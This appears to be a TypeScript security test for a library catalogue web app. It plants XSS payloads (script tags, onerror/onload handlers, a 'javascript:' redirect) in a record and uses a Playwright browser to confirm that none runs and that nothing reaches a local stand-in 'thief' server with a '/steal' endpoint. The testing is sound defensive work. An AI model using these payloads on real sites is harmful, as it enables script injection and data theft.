import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';
import { LIBRARY } from '../compare/tree.ts';
import type { Attack } from './attack.ts';
import { record } from './records.ts';
import { recordIdsOf } from './victim.ts';

const SCRIPT =
  '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><svg onload="window.hacked=1">';

/**
 * What a script that got into the page would try, with the server of whom it serves; true if one of them ran. Text, because it is the page's
 * code and not ours.
 */
const inPage = (thief: string) => `(async () => {
  const add = (tag, traits) =>
    new Promise((done) => {
      const one = Object.assign(document.createElement(tag), traits);
      one.addEventListener('load', done);
      one.addEventListener('error', done);
      setTimeout(done, 500);
      document.body.append(one);
    });
  await add('script', { textContent: 'window.hacked=1' });
  await add('script', { src: '${thief}/x.js' });
  await add('iframe', { srcdoc: '<script>parent.hacked=1</script>' });
  const button = Object.assign(document.createElement('div'), { innerHTML: '<b onclick="window.hacked=1">x</b>' });
  document.body.append(button);
  button.firstChild.click();
  await import('data:text/javascript,window.hacked=1').catch(() => undefined);
  await fetch('${thief}/steal').catch(() => undefined);
  return 'hacked' in window;
})()`;

/** What a script in data, or one that got into the page, may do there. */
export const ATTACKS_ON_PAGES: readonly Attack[] = [
  {
    name: 'scripts in a title, an address and the page itself, in a browser',
    mustHold: 'none runs, nothing is sent elsewhere',
    async run(victim) {
      await victim.bring('script.mrc', record('script', `Scriptsplenty ${SCRIPT}`), {
        word: 'scriptsplenty',
        count: 1,
      });
      const [id = ''] = await recordIdsOf(victim, 'scriptsplenty');
      const thief = await startThief();
      const browser = await chromium.launch({
        executablePath: process.env.LECTERN_CHROMIUM ?? '/usr/bin/chromium',
        args: ['--no-sandbox', '--disable-gpu'],
      });
      try {
        const page = await browser.newPage();
        await page.goto(thief.origin);
        // Without a policy it works: else nothing would be proved.
        const works = await page.evaluate(inPage(thief.origin));
        const ownRequests = thief.requests();
        const ran: string[] = [];
        for (const [name, address] of [
          ['record page', `${victim.origin}/${LIBRARY}/record/${id}`],
          ['portal', `${victim.origin}/${LIBRARY}/#/searchList/bookDetails/${id}`],
          [
            'results',
            `${victim.origin}/${LIBRARY}/#/searchList?keyWord=${encodeURIComponent(`scriptsplenty ${SCRIPT}`)}`,
          ],
          ['next path', `${victim.origin}/${LIBRARY}/#/login?nextpath=javascript:window.hacked=1`],
        ] as const) {
          await page.goto(address, { waitUntil: 'networkidle' });
          const isHacked = await page.evaluate(inPage(thief.origin));
          if (isHacked) ran.push(name);
        }
        const sent = thief.requests() - ownRequests;
        const held = works === true && ownRequests > 1 && ran.length === 0 && sent === 0;
        const where = ran.length === 0 ? 'none ran' : `ran in ${ran.join(', ')}`;
        return {
          held,
          saw: `${where}, ${sent} requests elsewhere${works === true ? '' : '; no script works'}`,
        };
      } finally {
        await browser.close();
        thief.close();
      }
    },
  },
];

/** A server of somebody else, with a page without a policy and a script that any page may load. */
async function startThief() {
  let requests = 0;
  const server = createServer(({ url }, response) => {
    if (url === '/x.js' || url === '/steal') requests += 1;
    const type = url === '/x.js' ? 'text/javascript' : 'text/html';
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
    response.end(url === '/x.js' ? 'window.hacked=1' : '<title>Elsewhere</title>');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests: () => requests,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
